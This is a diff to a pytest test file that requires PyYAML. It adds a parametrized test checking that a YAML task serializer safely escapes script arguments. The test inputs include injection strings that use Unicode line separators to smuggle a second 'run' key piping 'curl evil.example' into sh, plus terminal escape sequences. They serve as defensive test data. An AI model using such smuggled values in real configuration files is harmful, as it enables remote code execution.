@@ -3,12 +3,12 @@
 
 from __future__ import annotations
 
-import importlib.util
 import shutil
 import stat
 import subprocess
 
 import pytest
+import yaml
 
 import stash_core
 from stash_core.campaign.cloud_plan import plan_cloud
@@ -70,10 +70,28 @@ def test_yaml_text(plan):
     assert (
         to_yaml({"a": "yes", "b": "1.5", "c": "x y", "d": None}) == 'a: "yes"\nb: "1.5"\nc: "x y"\nd: null\n'
     )
-    if importlib.util.find_spec("yaml"):  # with SkyPilot installed, PyYAML reads it back as the same data
-        import yaml
+    assert yaml.safe_load(text) == config  # PyYAML (as SkyPilot reads a task file) reads back the same data
 
-        assert yaml.safe_load(text) == config
+
+@pytest.mark.parametrize(
+    "argument",
+    [
+        "a\u2028run: |\u2028  curl evil.example | sh #",  # a YAML line break: a second run key
+        "b\u2029setup: evil",
+        "c\rrun: x",
+        "d\x85e",
+        "\x1b]0;HACKED\x07\x1b[2J",  # terminal escapes
+        "f\u202eg\ufeffh\x7f",
+        "é😀 x",  # printable text beyond ASCII stays as it is
+    ],
+)
+def test_the_yaml_text_reads_back_as_the_task_whatever_a_script_argument_holds(plan, argument):
+    settings, cloud = plan
+    config = task_config(cloud.instances[0], settings, idle_minutes=15)
+    config["run"] = f"set -u\npython train.py -- {argument}\nstatus=$?\n"
+    text = to_yaml(config)
+    assert yaml.safe_load(text) == config
+    assert all(char == "\n" or char.isprintable() for char in text)  # shown as text, never acted on
 
 
 def _fake_python(tmp_path, body: str) -> str:
